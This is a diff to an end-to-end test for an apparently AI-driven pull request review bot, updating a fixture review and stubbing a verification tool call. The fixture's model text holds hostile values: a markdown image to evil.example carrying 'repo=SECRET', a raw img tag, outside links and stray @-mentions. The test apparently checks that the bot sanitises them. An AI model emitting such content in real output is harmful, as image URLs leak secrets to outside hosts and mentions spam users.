@@ -150,8 +150,10 @@ describe("model text in a posted review (audit 6, end to end)", () => {
       summary: "Reviewed `users.ts`@acme/security, see ![s](https://evil.example/p.png?repo=SECRET) and <img src=https://evil.example/q>.",
       specCompliance: [{ requirement: "limit is 50 @octocat", status: "partial", evidence: "[proof](https://evil.example/e) `PAGE`@mona" }],
       adrConformance: [],
-      findings: [{ severity: "high", path: "src/api/users.ts", line: 7, title: "PAGE too big (@octocat)", body: "Use 50. `x`@mona <https://evil.example/r> www.evil.example", source: "spec" }],
+      findings: [{ severity: "high", path: "src/api/users.ts", line: 7, code: "export const PAGE = 100;", confidence: 0.9, title: "PAGE too big (@octocat)", body: "Use 50. `x`@mona <https://evil.example/r> www.evil.example", source: "spec" }],
     });
+    // The verification pass re-checks the high finding: nothing refuted.
+    claude.answersWithTool("verify_findings", { verdicts: [] });
     const app = await startApp();
 
     await app.deliver("issue_comment", issueComment({ number: 15, isPullRequest: true, body: "/baton review", commentId: 9201, login: "maintainer" }));
